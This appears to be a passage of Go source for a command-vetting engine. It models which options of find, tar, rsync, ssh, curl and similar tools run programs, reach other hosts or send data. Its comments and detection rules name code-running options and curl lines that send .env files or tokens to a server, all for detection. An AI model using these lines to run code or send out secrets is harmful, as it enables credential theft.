package argmodel

import (
	"slices"
	"strconv"
	"strings"
)

// Models of the file tools that can run programs: find, xargs, tar,
// rsync, and ssh with its file-copying relatives.

// findNewer are find's -newerXY tests: X and Y are one of a, B, c, m
// (Y also t, a date).
func findNewer() []Option {
	var out []Option
	for _, x := range "aBcm" {
		for _, y := range "aBcmt" {
			out = append(out, val("", RoleData, "newer"+string(x)+string(y)))
		}
	}
	return out
}

const whyFindExec = "find -exec runs a program for every file it finds"

// runsCommand is an option that runs the command made of the words after
// it, up to one of until (find -exec CMD … ;, fd -x CMD …).
func runsCommand(short string, long, until []string, why string) Option {
	return Option{Short: short, Long: long, Arg: ArgRequired, Role: RoleCommand, Until: until, Effect: EffExec, Why: why}
}

// findSpec is GNU find. Its tests and actions are spelled with one dash;
// the words before the first of them are the starting points.
func findModel() *Spec {
	return &Spec{
		Name:        "find",
		Syntax:      Syntax{SingleDash: true, Permute: true, DashDashGlobal: true},
		Placeholder: "{}",
		Operators:   []string{"(", ")", "!", ","},
		Options: join(list(
			runsCommand("", []string{"exec", "execdir"}, []string{";", "+"}, whyFindExec),
			runsCommand("", []string{"ok", "okdir"}, []string{";"}, whyFindExec),
			flag("", "delete").does(EffExec, "find -delete removes every file it finds"),
			val("", RolePath, "fprint", "fprint0", "fls").does(EffExec, "find -fprint writes to a file named in its arguments").output(),
			Option{Long: []string{"fprintf"}, Arg: ArgRequired, Role: RolePath, More: []Role{RoleData}, Effect: EffExec, Why: "find -fprintf writes to a file named in its arguments", Output: true},
			val("", RoleData, "D"),
			val("", RolePath, "newer", "anewer", "cnewer", "samefile", "files0-from"),
		), findNewer(), vals(RoleData, "name", "iname", "path", "ipath", "wholename", "iwholename",
			"regex", "iregex", "lname", "ilname", "perm", "type", "xtype", "user", "group", "uid", "gid",
			"size", "mtime", "atime", "ctime", "mmin", "amin", "cmin", "used", "links", "inum",
			"maxdepth", "mindepth", "fstype", "context", "printf", "regextype"),
			longs("H", "L", "P", "O0", "O1", "O2", "O3", "print", "print0", "ls", "prune", "quit", "true", "false",
				"empty", "readable", "writable", "executable", "nouser", "nogroup", "depth", "d", "mount",
				"xdev", "noleaf", "ignore_readdir_race", "noignore_readdir_race", "daystart", "follow",
				"warn", "nowarn", "help", "version", "not", "and", "or", "a", "o")),
		Operands: operands(RolePath),
	}
}

const whyFdExec = "fd --exec runs a program for every file it finds"

// fdModel is fd (fdfind on Debian), whose options are clap's: anywhere
// among the operands, values attached or in the next word. -x/--exec and
// -X/--exec-batch run the command made of the words after them, up to a
// ";".
func fdModel() *Spec {
	return &Spec{
		Name: "fd",
		// clap: -x=CMD gives CMD to -x, as --exec=CMD does.
		Syntax: Syntax{Permute: true, ShortEq: true},
		// Every placeholder fd fills in starts with '{': {}, {/}, {//},
		// {.}, {/.}.
		Placeholder: "{",
		// fd -x CMD without a placeholder runs CMD {}.
		Appended: "{}",
		Open:     true,
		Options: join(list(
			runsCommand("x", []string{"exec"}, []string{";"}, whyFdExec),
			runsCommand("X", []string{"exec-batch"}, []string{";"}, whyFdExec),
			val("d", RoleData, "max-depth", "maxdepth"), val("", RoleData, "min-depth"), val("", RoleData, "exact-depth"),
			val("E", RoleData, "exclude"), val("t", RoleData, "type"), val("e", RoleData, "extension"),
			val("S", RoleData, "size"), val("", RoleData, "changed-within", "change-newer-than", "newer"),
			val("", RoleData, "changed-before", "change-older-than", "older"), val("o", RoleData, "owner"),
			val("", RoleData, "max-results"), val("j", RoleData, "threads"), val("c", RoleData, "color"),
			val("", RoleData, "format"), val("", RoleData, "path-separator"), val("", RoleData, "max-buffer-time"),
			val("", RoleData, "batch-size"), val("", RoleData, "and"),
			val("", RolePath, "base-directory"), val("", RolePath, "search-path"), val("", RolePath, "ignore-file"),
			opt("", RoleData, "strip-cwd-prefix"), opt("", RoleData, "hyperlink"),
			flag("H", "hidden"), flag("I", "no-ignore"), flag("u", "unrestricted"), flag("s", "case-sensitive"),
			flag("i", "ignore-case"), flag("g", "glob"), flag("F", "fixed-strings"), flag("a", "absolute-path"),
			flag("l", "list-details"), flag("L", "follow"), flag("p", "full-path"), flag("0", "print0"),
			flag("1"), flag("q", "quiet"), flag("h", "help"), flag("V", "version"),
		), longs("no-ignore-vcs", "no-ignore-parent", "no-global-ignore-file", "regex", "relative-path", "prune",
			"show-errors", "one-file-system", "mount", "xdev", "no-require-git", "require-git", "no-follow",
			"no-hidden", "ignore", "ignore-vcs")),
		Operands: []Operand{{Role: RoleData}, {Role: RolePath}},
	}
}

// batModel is bat (batcat on Debian): --pager names the program that
// shows its output, and --lessopen runs the preprocessor LESSOPEN names.
func batModel() *Spec {
	return &Spec{
		Name:   "bat",
		Syntax: Syntax{Permute: true, ShortEq: true},
		Open:   true,
		Options: join(list(
			val("", RoleProgram, "pager").does(EffExec, "bat --pager names the program that shows its output"),
			flag("", "lessopen").does(EffExec, "bat --lessopen runs the preprocessor the LESSOPEN variable names"),
			val("l", RoleData, "language"), val("H", RoleData, "highlight-line"), val("", RoleData, "file-name"),
			val("", RoleData, "diff-context"), val("", RoleData, "tabs"), val("", RoleData, "wrap"),
			val("", RoleData, "terminal-width"), val("m", RoleData, "map-syntax"), val("", RoleData, "theme"),
			val("", RoleData, "theme-light"), val("", RoleData, "theme-dark"), val("", RoleData, "style"),
			val("r", RoleData, "line-range"), val("", RoleData, "color"), val("", RoleData, "italic-text"),
			val("", RoleData, "decorations"), val("", RoleData, "paging"), val("", RoleData, "squeeze-limit"),
			val("", RoleData, "strip-ansi"), val("", RoleData, "binary"), val("", RoleData, "nonprintable-notation"),
			val("", RoleData, "ignored-suffix"), val("", RoleData, "completion"),
			flag("A", "show-all"), flag("p", "plain"), flag("n", "number"), flag("u", "unbuffered"), flag("P"),
			flag("f", "force-colorization"), flag("d", "diff"), flag("s", "squeeze-blank"), flag("S", "chop-long-lines"),
			flag("h", "help"), flag("V", "version"), flag("L", "list-languages"),
		), longs("list-themes", "no-config", "no-custom-assets", "no-lessopen", "config-file", "config-dir",
			"cache-dir", "diagnostic", "acknowledgements", "set-terminal-title", "no-paging")),
		Operands: operands(RolePath),
	}
}

// diffRunner is a GNU program that runs diff, or the program
// --diff-program names, on its files: diff3 and sdiff.
func diffRunner(name string, opts ...[]Option) *Spec {
	return &Spec{
		Name:     name,
		Syntax:   GNU,
		Open:     true,
		Options:  join(append([][]Option{list(val("", RoleProgram, "diff-program").does(EffExec, "--diff-program names the program that compares the files"))}, opts...)...),
		Operands: operands(RolePath),
	}
}

// diff3Model is GNU diff3.
func diff3Model() *Spec {
	return diffRunner("diff3", list(val("L", RoleData, "label")), shorts("eE3xXmAaTiv"),
		longs("show-all", "ed", "show-overlap", "overlap-only", "easy-only", "merge", "text", "strip-trailing-cr",
			"initial-tab", "help", "version"))
}

// sdiffModel is GNU sdiff; -o writes the merged file.
func sdiffModel() *Spec {
	return diffRunner("sdiff", list(val("o", RolePath, "output"), val("I", RoleData, "ignore-matching-lines"),
		val("w", RoleData, "width"), val("", RoleData, "tabsize")), shorts("ibWZEBadHlstv"),
		longs("ignore-case", "ignore-tab-expansion", "ignore-trailing-space", "ignore-space-change", "ignore-all-space",
			"ignore-blank-lines", "text", "minimal", "speed-large-files", "left-column", "suppress-common-lines",
			"expand-tabs", "strip-trailing-cr", "help", "version"))
}

// xargsSpec is GNU xargs (getopt with "+": the program ends the options).
func xargsModel() *Spec {
	return &Spec{
		Name:   "xargs",
		Syntax: GNUStop,
		Options: join(list(
			val("a", RolePath, "arg-file").does(EffExec, "xargs -a reads the command's arguments from a file"),
			val("d", RoleData, "delimiter"),
			val("E", RoleData),
			opt("e", RoleData, "eof"),
			Option{Short: "I", Arg: ArgRequired, Role: RoleData, Placeholder: true},
			Option{Short: "i", Long: []string{"replace"}, Arg: ArgOptional, Role: RoleData, Placeholder: true, Default: "{}"},
			// -L takes a value; --max-lines is -l, whose value is only
			// ever attached (--max-lines sudo id runs sudo).
			val("L", RoleData),
			opt("l", RoleData, "max-lines"),
			val("n", RoleData, "max-args"),
			val("P", RoleData, "max-procs"),
			val("", RoleData, "process-slot-var").does(EffComputed, "xargs sets this variable in the environment of the commands it runs, and it may be one that makes them run code (BASH_ENV, GIT_EXTERNAL_DIFF, LD_PRELOAD)"),
			val("s", RoleData, "max-chars"),
		), shorts("0oprtx"), longs("null", "open-tty", "interactive", "no-run-if-empty", "verbose", "exit",
			"show-limits", "help", "version")),
		Operands: []Operand{{Role: RoleCommand, Appends: true}},
	}
}

const whyTarProg = "this tar option runs a program"

// rmModel is GNU rm: its options, so that a rule naming -r reads -R and
// --recursive as the same option. Its operands are paths.
func rmModel() *Spec {
	return &Spec{Name: "rm", Syntax: GNU, Options: list(
		flag("f", "force"), flag("i"), flag("I"), opt("", RoleData, "interactive"), flag("", "one-file-system"),
		flag("", "no-preserve-root"), opt("", RoleData, "preserve-root"), flag("rR", "recursive"), flag("d", "dir"),
		flag("v", "verbose"), flag("", "help"), flag("", "version"),
	), Operands: operands(RolePath)}
}

// ctagsModel is Universal Ctags (and Exuberant's): --options reads more
// options from a file, or from every .ctags file of a directory, and an
// option file may name any output (-o) and write text of its choosing
// into it (--_xformat); --options=NONE reads none. The files it reads at
// start (.ctags.d/, ~/.config/ctags/) are protected paths, and ctags.d/'s
// a file it runs after the command writes it (programs.BuildFiles).
func ctagsModel() *Spec {
	return &Spec{Name: "ctags", Syntax: GNU, Open: true, Options: list(
		val("", RolePath, "options", "options-maybe").does(EffComputed, "ctags reads more options from this file or directory, which may name any output file and the text it writes there").when(func(v string, computed bool) bool {
			return computed || v != "NONE"
		}),
		val("o", RolePath), val("f", RolePath), val("L", RolePath)),
	}
}

// dpkgModel is Debian's dpkg: the shell commands it runs before and after
// an action (--pre-invoke, --post-invoke) and the one it sends its status
// to (--status-logger) are scripts of their own; what it extracts is the
// links table's (dpkg -x).
func dpkgModel() *Spec {
	return &Spec{Name: "dpkg", Syntax: GNU, Open: true, Options: list(
		val("", RoleCode, "pre-invoke", "post-invoke", "status-logger").code(LangShell).does(EffExec, "dpkg runs this shell command"),
		val("", RolePath, "admindir", "root", "instdir", "log"), val("", RoleData, "status-fd"),
	)}
}

// gpgZipModel is GnuPG's gpg-zip, a shell script around gpg and tar: it
// runs the programs --gpg and --tar name, and hands the words of
// --gpg-args and --tar-args to them unquoted (tar -I CMD runs CMD).
func gpgZipModel() *Spec {
	return &Spec{Name: "gpg-zip", Syntax: GNU, Open: true, Options: list(
		val("", RoleProgram, "gpg", "tar").does(EffExec, "gpg-zip runs this program as gpg or tar"),
		val("", RoleData, "gpg-args").does(EffComputed, "gpg-zip hands these words to gpg as options, unquoted: options that run programs among them (--photo-viewer CMD)"),
		val("", RoleData, "tar-args").does(EffComputed, "gpg-zip hands these words to tar as options, unquoted: options that run programs among them (-I CMD)"),
		val("o", RolePath, "output"), val("r", RoleData, "recipient"), val("u", RoleData, "local-user"),
		flag("e", "encrypt"), flag("d", "decrypt"), flag("c", "symmetric"), flag("s", "sign"), flag("", "list-archive"),
	)}
}

// cpioModel is GNU cpio: the program it runs to reach an archive on
// another host, and that archive. What it writes is the links table's.
func cpioModel() *Spec {
	return &Spec{Name: "cpio", Syntax: GNU, Open: true, Options: join(list(
		val("", RoleProgram, "rsh-command").does(EffExec, "cpio runs this program to reach an archive on another host"),
		val("F", RolePath, "file").does(EffExternal, "a cpio archive name with a colon is on another host, reached with rsh").when(tarRemote),
		val("O", RolePath).does(EffExternal, "a cpio archive name with a colon is on another host, reached with rsh").when(tarRemote),
		val("I", RolePath).does(EffExternal, "a cpio archive name with a colon is on another host, reached with rsh").when(tarRemote),
		val("E", RolePath, "pattern-file"), val("H", RoleData, "format"), val("M", RoleData, "message"),
		val("R", RoleData, "owner"), val("C", RoleData, "io-size"), val("D", RolePath, "directory"),
		val("", RoleData, "block-size"), flag("", "reproducible"),
	), shorts("oipatdmurvVfnbsSBLc0")), Operands: operands(RoleData)}
}

// installModel is GNU install: the program install -s runs on every
// file it installs. What it writes is the links table's.
func installModel() *Spec {
	return &Spec{Name: "install", Syntax: GNU, Open: true, Options: join(list(
		val("", RoleProgram, "strip-program").does(EffExec, "install -s runs this program on every file it installs"),
		val("m", RoleData, "mode").does(EffPrivileged, whySetsID).when(setsID), val("o", RoleData, "owner"), val("g", RoleData, "group"),
		val("S", RoleData, "suffix"), val("t", RolePath, "target-directory"), opt("", RoleData, "backup"),
		opt("Z", RoleData, "context"),
	), shorts("bcCdDpsvT"), longs("compare", "directory", "preserve-timestamps", "strip", "verbose",
		"no-target-directory", "preserve-context", "debug")), Operands: operands(RolePath)}
}

// tarSpec is GNU tar, with old-style letter bundles (tar cIf CMD FILE).
func tarModel() *Spec {
	return &Spec{
		Name:   "tar",
		Syntax: GNU,
		Bundle: true,
		Options: join(list(
			val("I", RoleProgram, "use-compress-program").does(EffExec, whyTarProg),
			val("", RoleProgram, "to-command").does(EffExec, whyTarProg),
			val("", RoleData, "checkpoint-action").does(EffComputed, "tar --checkpoint-action=exec runs a command line that the engine does not read").when(tarCheckpointExec),
			val("F", RoleProgram, "info-script", "new-volume-script").does(EffExec, whyTarProg),
			val("", RoleProgram, "rsh-command", "rmt-command").does(EffExec, whyTarProg),
			val("f", RolePath, "file").does(EffExternal, "a tar archive name with a colon is on another host, reached with rsh").when(tarRemote),
			val("g", RolePath, "listed-incremental").output(), val("C", RolePath, "directory").chdir(),
			val("", RolePath, "index-file").output(), val("", RolePath, "volno-file").output(),
			val("T", RolePath, "files-from"), val("X", RolePath, "exclude-from"),
			val("L", RoleData, "tape-length"), val("b", RoleData, "blocking-factor"),
			val("H", RoleData, "format"), val("V", RoleData, "label"), val("K", RoleData, "starting-file"),
			val("N", RoleData, "newer", "after-date"),
			opt("", RoleData, "occurrence"), opt("", RolePath, "one-top-level"), opt("", RoleData, "atime-preserve"),
			opt("", RoleData, "backup"), opt("", RoleData, "checkpoint"), opt("", RoleData, "totals"),
		), vals(RolePath, "add-file", "exclude-ignore", "exclude-ignore-recursive", "exclude-tag",
			"exclude-tag-all", "exclude-tag-under", "group-map", "owner-map"),
			vals(RoleData, "hole-detection", "level", "sparse-version", "exclude", "group", "mode", "mtime",
				"owner", "sort", "xattrs-exclude", "xattrs-include", "record-size", "pax-option",
				"newer-mtime", "suffix", "strip-components", "transform", "xform", "no-quote-chars",
				"quote-chars", "quoting-style", "warning"),
			shorts("AcdrtuxGnSkUWOmpsMBiajJzZhPlRvwo?"),
			longs("catenate", "concatenate", "create", "delete", "diff", "compare", "append", "test-label",
				"list", "update", "extract", "get", "check-device", "incremental", "ignore-failed-read",
				"no-check-device", "no-seek", "seek", "sparse", "exclude-backups", "exclude-caches",
				"exclude-caches-all", "exclude-caches-under", "exclude-vcs", "exclude-vcs-ignores",
				"no-null", "no-recursion", "no-unquote", "no-verbatim-files-from", "null",
				"verbatim-files-from", "recursion", "unquote", "anchored", "ignore-case", "no-anchored",
				"no-ignore-case", "no-wildcards", "no-wildcards-match-slash", "wildcards",
				"wildcards-match-slash", "keep-directory-symlink", "keep-newer-files", "keep-old-files",
				"no-overwrite-dir", "overwrite", "overwrite-dir", "recursive-unlink", "remove-files",
				"skip-old-files", "unlink-first", "verify", "ignore-command-error",
				"no-ignore-command-error", "to-stdout", "clamp-mtime", "delay-directory-restore", "touch",
				"no-delay-directory-restore", "no-same-owner", "no-same-permissions", "numeric-owner",
				"preserve-permissions", "same-permissions", "same-owner", "preserve-order", "same-order",
				"acls", "no-acls", "no-selinux", "no-xattrs", "selinux", "xattrs", "force-local",
				"multi-volume", "read-full-records", "ignore-zeros", "old-archive", "portability",
				"auto-compress", "bzip2", "xz", "lzip", "lzma", "lzop", "no-auto-compress", "zstd", "gzip",
				"gunzip", "ungzip", "compress", "uncompress", "hard-dereference", "dereference",
				"one-file-system", "absolute-names", "full-time", "check-links", "block-number",
				"show-defaults", "show-omitted-dirs", "show-snapshot-field-ranges",
				"show-transformed-names", "show-stored-names", "utc", "verbose", "interactive",
				"confirmation", "help", "restrict", "usage", "version", "posix")),
		Operands: operands(RolePath),
	}
}

func tarCheckpointExec(v string, computed bool) bool {
	return computed || strings.Contains(v, "exec")
}

// tarRemote reports an archive name that tar reaches with rsh: a colon
// before any slash (host:file, user@host:file).
func tarRemote(v string, computed bool) bool {
	return computed || IsRemote(v)
}

// IsRemote reports whether an scp, rsync or tar operand names another
// host: host:path, user@host:path, host::module, rsync://…, scp://….
// A colon after the first slash is part of a local path.
func IsRemote(v string) bool {
	if strings.HasPrefix(v, "rsync://") || strings.HasPrefix(v, "scp://") || strings.HasPrefix(v, "sftp://") {
		return true
	}
	c := strings.IndexByte(v, ':')
	if c <= 0 {
		return false
	}
	s := strings.IndexByte(v, '/')
	return s < 0 || c < s
}

// remoteTarget is the Judge of scp and rsync: copying to another host is
// an external effect. The last operand is the destination.
func remoteTarget(r *Result, words []string) {
	last := -1
	for k, it := range r.Items {
		if it.Kind == KindOperand && (it.Role == RoleRemote || it.Role == RolePath) {
			last = k
		}
	}
	if last < 0 {
		return
	}
	it := r.Items[last]
	if !it.Computed && !IsRemote(it.Text) {
		return
	}
	why := "copies to another host: " + it.Text
	if it.Computed {
		why = "copies to a destination known only at run time: " + it.Text
	}
	r.Effects |= EffExternal
	r.Findings = append(r.Findings, Finding{Effect: EffExternal, Word: it.Word, Why: why})
}

// rsyncSpec is rsync (popt: no abbreviations, --no-OPTION negations).
func rsyncModel() *Spec {
	return &Spec{
		Name:   "rsync",
		Syntax: Syntax{Permute: true, Negate: true},
		Open:   true,
		Judge:  remoteTarget,
		Options: join(list(
			val("e", RoleProgram, "rsh").does(EffExec, "rsync -e runs this program as the remote shell"),
			val("", RoleProgram, "rsync-path").does(EffExec|EffExternal, "rsync --rsync-path runs this program on the other side, on the remote host over ssh"),
			val("M", RoleData, "remote-option"),
			val("f", RoleData, "filter"), val("B", RoleData, "block-size"), val("T", RolePath, "temp-dir"),
			val("@", RoleData, "modify-window"),
			val("", RoleData, "chmod").does(EffPrivileged, whySetsID).when(chmodListSetsID),
			val("", RolePath, "log-file").output(), val("", RolePath, "write-batch").output(),
			val("", RolePath, "only-write-batch").output(), val("", RolePath, "partial-dir").output(),
			val("", RolePath, "backup-dir").output(),
		), vals(RoleData, "info", "debug", "stderr", "suffix", "checksum-choice", "max-delete",
			"max-size", "min-size", "max-alloc", "usermap", "groupmap", "chown", "timeout", "contimeout",
			"compress-choice", "compress-level", "compress-threads", "skip-compress", "exclude", "include",
			"copy-as", "address", "port", "sockopts", "outbuf", "out-format", "log-file-format", "bwlimit",
			"stop-after", "stop-at", "protocol", "iconv", "checksum-seed"),
			vals(RolePath, "confine-root", "compare-dest", "copy-dest",
				"link-dest", "exclude-from", "include-from", "files-from", "password-file",
				"early-input", "read-batch"),
			shorts("vqcarRbudlLkKHpEAXogDtUNOJSnWxIyzCF0s8hPi46V"),
			longs("verbose", "quiet", "no-motd", "checksum", "archive", "recursive", "inc-recursive", "i-r",
				"relative", "no-implied-dirs", "backup", "update", "inplace", "append", "append-verify", "dirs",
				"old-dirs", "old-d", "mkpath", "links", "copy-links", "copy-unsafe-links", "safe-links",
				"insecure-links", "munge-links", "copy-dirlinks", "keep-dirlinks", "hard-links", "perms",
				"executability", "acls", "xattrs", "owner", "group", "devices", "copy-devices",
				"write-devices", "specials", "times", "atimes", "open-noatime", "crtimes", "omit-dir-times",
				"omit-link-times", "super", "fake-super", "sparse", "preallocate", "dry-run", "whole-file",
				"one-file-system", "existing", "ignore-non-existing", "ignore-existing",
				"remove-source-files", "del", "delete", "delete-before", "delete-during", "delete-delay",
				"delete-after", "delete-excluded", "ignore-missing-args", "delete-missing-args",
				"ignore-errors", "force", "partial", "delay-updates", "prune-empty-dirs", "numeric-ids",
				"ignore-times", "size-only", "fuzzy", "compress", "cvs-exclude", "from0", "old-args",
				"secluded-args", "protect-args", "trust-sender", "blocking-io", "stats", "8-bit-output",
				"human-readable", "progress", "itemize-changes", "list-only", "fsync", "ipv4", "ipv6",
				"version", "help", "server", "sender", "daemon")),
		Operands: operands(RoleRemote),
	}
}

const whySSHOpt = "this ssh option runs a local program (ProxyCommand, LocalCommand, KnownHostsCommand, Match exec)"

// sshOptionRuns reports an ssh -o option that runs a local program.
func sshOptionRuns(v string, computed bool) bool {
	if computed {
		return true
	}
	l := strings.ToLower(strings.TrimLeft(v, " \t"))
	for _, k := range []string{"proxycommand", "localcommand", "permitlocalcommand", "knownhostscommand", "match", "include", "remotecommand", "securitykeyprovider", "pkcs11provider"} {
		if strings.HasPrefix(l, k) {
			return true
		}
	}
	return false
}

// sshCommon are the options ssh, scp and sftp share that run programs.
func sshCommon() []Option {
	return list(
		val("o", RoleData).does(EffExec|EffComputed, whySSHOpt).when(sshOptionRuns),
		// A configuration file's ProxyCommand, LocalCommand and Match exec
		// run programs, as -o ProxyCommand=… does, wherever it was
		// written.
		val("F", RolePath).does(EffExec|EffComputed, "an ssh configuration file can run local programs (ProxyCommand)"),
		val("S", RoleProgram).does(EffExec, "this option names a program or control socket ssh uses"),
		val("i", RolePath), val("J", RoleRemote), val("c", RoleData), val("l", RoleData),
	)
}

// whySends is the effect of a request that carries data to a server.
const whySends = "sends data to a server: an upload, a form or a request body, which may carry the project's files or secrets"

// whySendsFile is the effect of a header or query read from a file.
const whySendsFile = "sends a file's contents to a server, in a header or the URL"

// cookieFile reports a curl -b value that names a file, whose cookies
// curl sends (a value without '=' is a file: -b .env sends it), or may
// (one that starts with an expansion).
func cookieFile(v string, computed bool) bool {
	return !strings.Contains(v, "=") || computed && v != "" && (v[0] == '$' || v[0] == '`')
}

// headerFile reports a header that reads a file (-H @h.txt), or may: one
// that starts with an expansion. "Authorization: Bearer $T" does not.
func headerFile(v string, computed bool) bool {
	return strings.HasPrefix(v, "@") || computed && v != "" && (v[0] == '$' || v[0] == '`')
}

// queryFile reports a query part or variable that reads a file
// (--url-query k@.env, --variable v@file: an '@' before any '='), or may
// (an expansion there).
func queryFile(v string, computed bool) bool {
	name, _, _ := strings.Cut(v, "=")
	return strings.IndexByte(name, '@') >= 0 || computed && strings.ContainsAny(name, "$`")
}

// mutatingMethod reports an HTTP method that may change something on the
// server: any but GET, HEAD and OPTIONS (a computed one may be any).
func mutatingMethod(m string, computed bool) bool {
	switch strings.ToUpper(m) {
	case "GET", "HEAD", "OPTIONS":
		return computed
	}
	return true
}

// curlModel is curl: the options that send data (a body, a form, an
// upload, a mutating method) have an effect outside the machine; -K reads
// more options from a file the engine does not see. Other options, and
// the URLs, read.
func curlModel() *Spec {
	curlSyntax := GNU
	curlSyntax.Negate = true // --no-progress-meter, --no-clobber: curl's booleans take --no-
	return &Spec{Name: "curl", Syntax: curlSyntax, Options: join(list(
		val("d", RoleData, "data", "data-ascii", "data-binary", "data-raw", "data-urlencode", "json").does(EffExternal, whySends),
		val("F", RoleData, "form", "form-string").does(EffExternal, whySends),
		val("T", RolePath, "upload-file").does(EffExternal, whySends),
		val("X", RoleData, "request").does(EffExternal, "sends a request with a method that changes things on the server").when(mutatingMethod),
		val("K", RolePath, "config").does(EffComputed, "curl -K reads options from a file the engine does not see"),
		val("Q", RoleData, "quote").does(EffExternal, "sends commands to an FTP or SFTP server, which may delete or change its files"),
		val("", RoleData, "proto-default").does(EffExternal, "a URL without a scheme is sent with this one, which may send what curl reads from its input").when(sendingScheme),
		val("", RoleData, "mail-rcpt", "mail-from").does(EffExternal, "sends mail"),
		val("H", RoleData, "header", "proxy-header").does(EffExternal, whySendsFile).when(headerFile),
		val("", RoleData, "url-query", "variable").does(EffExternal, whySendsFile).when(queryFile),
		val("o", RolePath, "output"), val("u", RoleData, "user"), val("A", RoleData, "user-agent"),
		val("e", RoleData, "referer"), val("c", RolePath, "cookie-jar"),
		val("b", RoleData, "cookie").does(EffExternal, "sends a file's contents to a server, as cookies").when(cookieFile),
		val("m", RoleData, "max-time"), val("w", RoleData, "write-out").does(EffComputed, "curl -w %output{FILE} writes what follows to the file it names (curl 8.3 and later)").when(writesOutput), val("x", RoleData, "proxy"),
		val("r", RoleData, "range"), val("C", RoleData, "continue-at"), val("z", RoleData, "time-cond"),
		flag("s", "silent"), flag("S", "show-error"), flag("L", "location"), flag("f", "fail"), flag("I", "head"),
		flag("i", "include"), flag("k", "insecure"), flag("v", "verbose"), flag("O", "remote-name"), flag("G", "get"),
		flag("#", "progress-bar"), flag("N", "no-buffer"), flag("4", "ipv4"), flag("6", "ipv6"),
		val("", RolePath, "etag-compare").does(EffExternal, "sends a file's contents to a server, in the If-None-Match header"),
		val("", RolePath, "unix-socket", "abstract-unix-socket").does(EffPrivileged, whySocket),
		val("h", RoleData, "help"), val("E", RolePath, "cert"), val("P", RoleData, "ftp-port"),
		val("U", RoleData, "proxy-user"), val("Y", RoleData, "speed-limit"), val("y", RoleData, "speed-time"),
		val("t", RoleData, "telnet-option"),
		flag("0", "http1.0"), flag("1", "tlsv1"), flag("2", "sslv2"), flag("3", "sslv3"), flag(":", "next"),
		flag("B", "use-ascii"), flag("J", "remote-header-name"), flag("M", "manual"), flag("R", "remote-time"),
		flag("V", "version"), flag("Z", "parallel"), flag("a", "append"), flag("g", "globoff"),
		flag("j", "junk-session-cookies"), flag("l", "list-only"), flag("p", "proxytunnel"),
		// The login a netrc file holds for the URL's host, or its
		// default one, goes to the server (printenv TOKEN > n; curl
		// --netrc-file n URL).
		flag("n", "netrc", "netrc-optional").does(EffExternal, "sends the login ~/.netrc holds for the host, or its default login, to the server"),
		val("", RolePath, "netrc-file").does(EffExternal, "sends the login this file holds for the host, or its default login, to the server"),
		flag("q", "disable"),
	), vals(RoleData, "connect-timeout", "retry", "url", "resolve", "cacert", "key", "max-redirs"),
		list(val("D", RolePath, "dump-header")), // curl -D FILE (-D - prints the headers)
		// OpenSSL's dynamic engine loads any path it is given as a shared
		// object, as openssl -engine does.
		list(val("", RoleData, "engine").does(EffExec|EffComputed, "curl --engine loads an OpenSSL engine, a shared object whose code the engine does not read").when(sharedObjectPath)),
		vals(RolePath, "output-dir", "trace", "trace-ascii", "stderr", "etag-save", "libcurl",
			"alt-svc", "hsts", "capath", "crlfile", "egd-file", "random-file", "pubkey",
			"proxy-cacert", "proxy-capath", "proxy-cert", "proxy-crlfile", "proxy-key",
			"ssl-sessions", "knownhosts"), // curl 8.12 and 8.17
		// The rest of curl 7.88's --help all, and curl 8's: values that
		// name no file, and flags. (One option each, so that the model
		// stays within its 255 options.)
		list(val("", RoleData, "aws-sigv4", "cert-type", "ciphers", "connect-to", "create-file-mode", "curves", "delegation",
			"dns-interface", "dns-ipv4-addr", "dns-ipv6-addr", "dns-servers", "doh-url", "expect100-timeout",
			"ftp-account", "ftp-alternative-to-user", "ftp-method", "ftp-ssl-ccc-mode",
			"happy-eyeballs-timeout-ms", "hostpubmd5", "hostpubsha256", "interface", "keepalive-time", "key-type", "krb",
			"limit-rate", "local-port", "login-options", "mail-auth", "max-filesize", "noproxy", "oauth2-bearer",
			"parallel-max", "pass", "pinnedpubkey", "preproxy", "proto", "proto-redir", "proxy-cert-type",
			"trace-config", "ip-tos", "vlan-priority", "ech", "parallel-max-host", "upload-flags", "sigalgs",
			"haproxy-clientip",
			"proxy-ciphers", "proxy-key-type", "proxy-pass", "proxy-pinnedpubkey", "proxy-service-name",
			"proxy-tls13-ciphers", "proxy-tlsauthtype", "proxy-tlspassword", "proxy-tlsuser", "proxy1.0",
			"rate", "request-target", "retry-delay", "retry-max-time", "sasl-authzid", "service-name", "socks4",
			"socks4a", "socks5", "socks5-gssapi-service", "socks5-hostname",
			"tftp-blksize", "tls-max", "tls13-ciphers", "tlsauthtype", "tlspassword", "tlsuser"),
			flag("", "compressed", "disallow-username-in-url", "http2-prior-knowledge", "ignore-content-length",
				"mail-rcpt-allowfails", "parallel-immediate", "proxy-ssl-allow-beast", "proxy-ssl-auto-client-cert",
				"ssl-auto-client-cert", "ssl-revoke-best-effort", "suppress-connect-headers", "anyauth", "basic",
				"cert-status", "compressed-ssh", "create-dirs", "crlf", "digest", "disable-eprt", "disable-epsv",
				"doh-cert-status", "doh-insecure", "fail-early", "fail-with-body", "false-start", "form-escape",
				"ftp-create-dirs", "ftp-pasv", "ftp-pret", "ftp-skip-pasv-ip", "ftp-ssl-ccc", "ftp-ssl-control",
				"haproxy-protocol", "http1.1", "http2", "http3", "http3-only", "location-trusted", "metalink",
				"negotiate", "no-alpn", "no-clobber", "no-keepalive", "no-npn", "no-progress-meter",
				"no-sessionid", "ntlm", "ntlm-wb", "path-as-is", "post301", "post302", "post303", "proxy-anyauth",
				"proxy-basic", "proxy-digest", "proxy-insecure", "proxy-negotiate", "proxy-ntlm", "proxy-tlsv1",
				"raw", "remote-name-all", "remove-on-error", "retry-all-errors", "retry-connrefused", "sasl-ir",
				"socks5-basic", "socks5-gssapi", "socks5-gssapi-nec", "ssl", "ssl-allow-beast", "ssl-no-revoke",
				"ssl-reqd", "styled-output", "tcp-fastopen", "tcp-nodelay", "tftp-no-options", "tr-encoding",
				"trace-time", "xattr", "tlsv1.0", "tlsv1.1", "tlsv1.2", "tlsv1.3", "proxy-http2",
				// curl 8's
				"ca-native", "proxy-ca-native", "trace-ids", "skip-existing", "mptcp", "follow", "out-null",
				"tls-earlydata", "dump-ca-embed", "proxy-dump-ca-embed", "show-headers", "http0.9",
				// the positive forms of the --no- flags
				"progress-meter", "clobber", "keepalive", "sessionid", "alpn", "npn", "buffer"),
			val("", RoleData, "keepalive-cnt", "ipfs-gateway"))),
		Operands: operands(RoleData), Judge: curlJudge, Env: proxyVars()}
}

// whySocket is the effect of a request sent through a local socket.
const whySocket = "sends the request to a local service's socket, not to the URL's host: docker's engine, snapd and systemd act with the host's privileges"

// routesElsewhere are curl's options that may send a request to another
// host than its URL names (a redirect followed, a proxy, an address given
